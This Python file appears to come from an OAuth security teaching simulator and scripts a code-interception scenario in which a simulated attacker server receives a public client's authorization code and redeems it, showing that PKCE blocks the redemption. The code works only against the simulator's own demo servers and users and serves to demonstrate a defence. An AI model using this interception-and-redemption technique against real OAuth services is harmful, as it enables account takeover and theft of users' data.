"""code-interception: a malicious app on the victim's device receives a public client's
authorization response and redeems the code (RFC 7636 §1). PKCE stops it.

The victim uses the single-page app (public client demo-spa: no secret). Its authorization
response is a redirect to its redirect URI, and a malicious app that registered the same URI
on the device receives it: here the victim's browser delivers the response to the
attacker's server. The attacker redeems the code at the token endpoint as demo-spa, which
needs no secret. With PKCE the code is bound to a code_challenge whose code_verifier never
left the app: the attacker has none and gets invalid_grant. Without PKCE (a public client
that sends no challenge) the attacker gets tokens and reads the victim's profile.
"""

from __future__ import annotations

import secrets
from urllib.parse import urlsplit, urlunsplit

from sim import defences
from sim.parties import ATTACKER, AUTHORIZATION_SERVER, USER_AGENT
from sim.scenarios.attack_common import (
    SPA,
    answer_param,
    error_of,
    pkce_pair,
    profile_owner,
    read_profile,
    spa_authorization_url,
    spa_redirect_uri,
)
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    ScenarioError,
    StepNote,
    log_in_and_consent,
    step,
)


def on_attacker_origin(url: str, attacker_url: str) -> str:
    """The same path and query on the attacker's server: how a malicious app that claimed
    the same redirect URI on the victim's device receives the authorization response."""
    parts = urlsplit(url)
    return urlunsplit(parts._replace(scheme="http", netloc=urlsplit(attacker_url).netloc))


class CodeInterception(AttackScenario):
    name = "code-interception"
    description = "A malicious app on the device receives a public client's code (PKCE)"
    rfc = "RFC 7636 §1, RFC 9700 §4.5.3.1"
    guards = (
        Guard(
            defences.PKCE,
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token"),
            "the code was issued for a code_challenge and the attacker has no "
            "code_verifier for it: invalid_grant",
            "no code_challenge was sent, so the server cannot tell the app that asked for "
            "the code from the one redeeming it",
            "RFC 7636 §4.6, RFC 9700 §4.5.3.1",
        ),
    )

    notes = (
        StepNote(
            step(USER_AGENT, ATTACKER, "GET", "/spa/callback"),
            "The authorization response goes to a malicious app that registered the same "
            "redirect URI on the device (RFC 8252 §8.1: the operating system hands the "
            "redirect to the wrong app). Simulated here by delivering the response to the "
            "attacker's server: the attacker now holds the code, not the verifier.",
            "RFC 7636 §1, RFC 8252 §8.1",
        ),
    )

    def attack(self, stage, flow, off, attacker) -> Attempt:
        victim = stage.user_agent(flow)
        victim.get(stage.client_url + "/spa")  # the victim opens the single-page app
        _, challenge = pkce_pair()  # the verifier stays in the real app
        use_pkce = defences.PKCE not in off
        url = spa_authorization_url(
            stage, secrets.token_urlsafe(16), challenge if use_pkce else None
        )
        redirect_uri = spa_redirect_uri(stage)
        last = log_in_and_consent(victim, victim.get(url), stop_at=redirect_uri)
        response_url = victim.location(last) or ""
        if not answer_param(response_url, "code"):
            raise ScenarioError(f"no code in the authorization response ({last.status_code})")
        # The malicious app, not the SPA, receives the redirect.
        victim.get(on_attacker_origin(response_url, stage.attacker_url))
        code = attacker.last("leak", "code")
        redeemed = attacker.http.post(
            stage.authorization_server_url + "/token",
            data={
                "grant_type": "authorization_code",
                "code": code,
                "redirect_uri": redirect_uri,
                "client_id": SPA.client_id,
            },
            timeout=10,
        )
        profile = None
        if redeemed.ok:
            profile = read_profile(attacker.http, stage, redeemed.json()["access_token"])
        owner = profile_owner(profile)
        return Attempt(
            {
                "challenge_sent": use_pkce,
                "code_intercepted": bool(code),
                "token_status": redeemed.status_code,
                "token_error": error_of(redeemed) or None,
                "attacker_read_profile_of": owner,
            },
            proof=profile if owner == "alice" else None,
            proves="the attacker reads alice's profile with a token from the intercepted code",
        )


SCENARIOS = [CodeInterception()]
